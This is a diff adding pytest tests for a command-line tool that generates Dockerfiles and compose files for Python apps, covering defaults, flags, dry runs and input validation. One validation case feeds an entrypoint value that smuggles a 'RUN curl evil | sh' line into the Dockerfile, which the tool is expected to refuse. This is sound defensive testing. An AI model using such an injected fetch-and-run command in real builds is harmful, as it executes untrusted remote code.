@@ -1,0 +1,126 @@
+"""The CLI end to end through Typer's runner: what it writes, what it refuses, and its exit codes."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+import yaml
+
+from .conftest import Invoke
+
+GENERATED = {".copier-answers.yml", ".dockerignore", "Dockerfile", "README.Docker.md", "compose.yaml"}
+
+
+def _files(folder: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
+
+
+def test_defaults_write_every_file_for_a_flask_app(
+    cli_invoke: Invoke, copy_app: Callable[[str], Path]
+) -> None:
+    app = copy_app("flask-pip")
+    result = cli_invoke(["new", str(app), "--defaults"])
+    assert GENERATED <= set(_files(app))
+    assert "created" in result.stdout
+    dockerfile = (app / "Dockerfile").read_text()
+    assert 'CMD ["gunicorn", "--bind", "0.0.0.0:8000", "--access-logfile", "-", "app:app"]' in dockerfile
+    assert "http://127.0.0.1:8000/health" in dockerfile
+    compose = yaml.safe_load((app / "compose.yaml").read_text())
+    assert compose["name"] == "flask-pip"
+    answers = yaml.safe_load((app / ".copier-answers.yml").read_text())
+    assert answers["entrypoint"] == "app:app"
+    assert "_src_path" in answers
+
+
+def test_flags_win_over_detection(cli_invoke: Invoke, copy_app: Callable[[str], Path]) -> None:
+    app = copy_app("flask-pip")
+    cli_invoke(["new", str(app), "-y", "--port", "9000", "--memory", "1g", "--cpus", "2", "--pids", "64",
+                "--uid", "20000", "--app-name", "shop"])
+    dockerfile = (app / "Dockerfile").read_text()
+    assert "EXPOSE 9000" in dockerfile and "USER 20000:20000" in dockerfile
+    service = yaml.safe_load((app / "compose.yaml").read_text())["services"]["shop"]
+    assert service["deploy"]["resources"]["limits"] == {"cpus": "2", "memory": "1g", "pids": 64}
+    assert service["ports"] == ["127.0.0.1:9000:9000"]
+
+
+def test_dry_run_prints_and_writes_nothing(cli_invoke: Invoke, copy_app: Callable[[str], Path]) -> None:
+    app = copy_app("flask-pip")
+    before = _files(app)
+    result = cli_invoke(["new", str(app), "-y", "--dry-run"])
+    assert _files(app) == before
+    assert "=== Dockerfile (would create)" in result.stdout
+    assert "FROM python:${PYTHON_VERSION}-slim AS runtime" in result.stdout
+    assert "nothing was written" in result.stdout
+
+
+def test_existing_files_are_not_overwritten_without_force(
+    cli_invoke: Invoke, copy_app: Callable[[str], Path]
+) -> None:
+    app = copy_app("flask-pip")
+    (app / "Dockerfile").write_text("FROM scratch\n")
+    before = _files(app)
+    result = cli_invoke(["new", str(app), "-y"], expect=1)
+    assert _files(app) == before  # not even the files that did not exist were written
+    assert "Dockerfile already exists" in result.stderr
+    assert "--force" in result.stderr
+    dry = cli_invoke(["new", str(app), "-y", "--dry-run"])
+    assert "-FROM scratch" in dry.stdout
+    cli_invoke(["new", str(app), "-y", "--force"])
+    assert "FROM scratch" not in (app / "Dockerfile").read_text()
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["--memory", "lots"], "--memory: must be a whole number with a unit k, m or g"),
+        (["--cpus", "0"], "--cpus: must be a positive number"),
+        (["--port", "80"], "--port: must be a whole number from 1024 to 65535"),
+        (["--app-name", "Bad Name"], "--app-name: must be 1-63 lowercase letters"),
+        (["--entrypoint", 'app:app"]\nRUN curl evil | sh'], "--entrypoint: must be module:attr"),
+        (["--package-manager", "conda"], "--package-manager: must be one of pip, poetry, uv"),
+        (["--runtime-base", "distroless", "--python-version", "3.12"], "--python-version: must be 3.11"),
+    ],
+)
+def test_bad_input_exits_2_with_one_line_and_writes_nothing(
+    cli_invoke: Invoke, copy_app: Callable[[str], Path], args: list[str], message: str
+) -> None:
+    app = copy_app("flask-pip")
+    before = _files(app)
+    result = cli_invoke(["new", str(app), "-y", *args], expect=2)
+    assert message in result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1
+    assert _files(app) == before
+
+
+def test_destination_that_is_a_file_is_refused(cli_invoke: Invoke, tmp_path: Path) -> None:
+    target = tmp_path / "file"
+    target.write_text("x")
+    result = cli_invoke(["new", str(target), "-y"], expect=2)
+    assert "is not a folder" in result.stderr
+
+
+def test_missing_destination_is_created(cli_invoke: Invoke, tmp_path: Path) -> None:
+    dest = tmp_path / "new" / "service"
+    cli_invoke(["new", str(dest), "-y", "--app-kind", "worker"])
+    assert GENERATED <= set(_files(dest))
+
+
+def test_entrypoint_is_rendered_as_a_json_array(cli_invoke: Invoke, tmp_path: Path) -> None:
+    cli_invoke(["new", str(tmp_path), "-y", "--entrypoint", "pkg.web:create_app()", "--server", "uvicorn"])
+    cmd = next(line for line in (tmp_path / "Dockerfile").read_text().splitlines() if line.startswith("CMD "))
+    assert json.loads(cmd[4:]) == ["uvicorn", "pkg.web:create_app", "--factory", "--host", "0.0.0.0", "--port", "8000"]
+
+
+def test_help_and_version(cli_invoke: Invoke) -> None:
+    assert "--memory" in cli_invoke(["new", "--help"]).stdout
+    assert cli_invoke(["--version"]).stdout.startswith("scaffold ")
+
+
+def test_notes_reach_stderr(cli_invoke: Invoke, tmp_path: Path) -> None:
+    (tmp_path / "app.py").write_text("from fastapi import FastAPI\napp = FastAPI()\n")
+    (tmp_path / "requirements.txt").write_text("fastapi\n")
+    result = cli_invoke(["new", str(tmp_path), "-y"])
+    assert "note: uvicorn is not among the dependencies" in result.stderr
